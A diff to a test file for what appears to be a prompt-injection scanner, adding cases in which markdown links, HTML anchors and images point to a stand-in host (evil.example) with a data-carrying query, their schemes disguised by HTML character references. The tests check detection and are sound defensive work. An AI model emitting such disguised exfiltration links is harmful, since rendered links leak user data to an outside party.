@@ -558,6 +558,57 @@ def test_a_url_holding_escapes_and_references_is_placed_at_its_start(form: str) 
 
 
 @pytest.mark.parametrize(
+    "scheme",
+    [
+        "https&#58;//",
+        "ht&#116;ps://",
+        "&#x68;ttps://",
+        "https\\://",
+        "https&#x3A;//",
+        "&#x68;&#x74;&#x74;&#x70;&#x73;&#x3a;//",
+        "https&colon;//",
+        "git\\+ssh://",
+    ],
+)
+@pytest.mark.parametrize(
+    "form",
+    [
+        "[x]({})",
+        "ab {}",
+        "- [x][r]\n\n[r]: {}",
+        '&amp; <a href="{}">x</a>',
+        "> see [x]({} 'a title') ok",
+        "`[x]({})`",  # a code span: the wide scan's, placed alike
+    ],
+)
+def test_a_url_whose_scheme_holds_a_reference_is_placed_at_its_scheme(form, scheme) -> None:
+    """adversary19 D6: the wide scan matched the URL from past the reference (``//…``,
+    ``ps://…``), and that place was kept over the rendered link's."""
+    url = scheme + "evil.example/?d=aB3xQ9zK2mN7pL4vR8sT1uW6yE5cD0fG"
+    text = "Prose.\n\n" + form.format(url) + "\n"
+    found = [m for m in injection.scan(text) if m.rule == "link-url-data"]
+    assert [m.start for m in found] == [text.index(url)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a&amp;//evil.example/?d=aB3xQ9zK2mN7pL4vR8sT1uW6yE5cD0fG",  # "//" after a reference
+        "x;//evil.example/?d=aB3xQ9zK2mN7pL4vR8sT1uW6yE5cD0fG",
+        "see a&#59;//evil.example/?d=aB3xQ9zK2mN7pL4vR8sT1uW6yE5cD0fG",  # "a;" is no scheme
+    ],
+)
+def test_a_scheme_relative_url_after_a_reference_is_placed_at_its_slashes(text) -> None:
+    found = [m for m in injection.scan(text) if m.rule == "link-url-data"]
+    assert [m.start for m in found] == [text.index("//")]
+
+
+def test_an_image_whose_scheme_holds_a_reference_is_no_link_too() -> None:
+    text = "![x](ht&#116;ps://evil.example/?d=aB3xQ9zK2mN7pL4vR8sT1uW6yE5cD0fG)"
+    assert [(m.rule, m.start) for m in injection.scan(text)] == [("image-url-data", 5)]
+
+
+@pytest.mark.parametrize(
     "url",
     [
         "https://www.youtube.com/watch?v=dQw4w9WgXcQ&amp;t=42s",
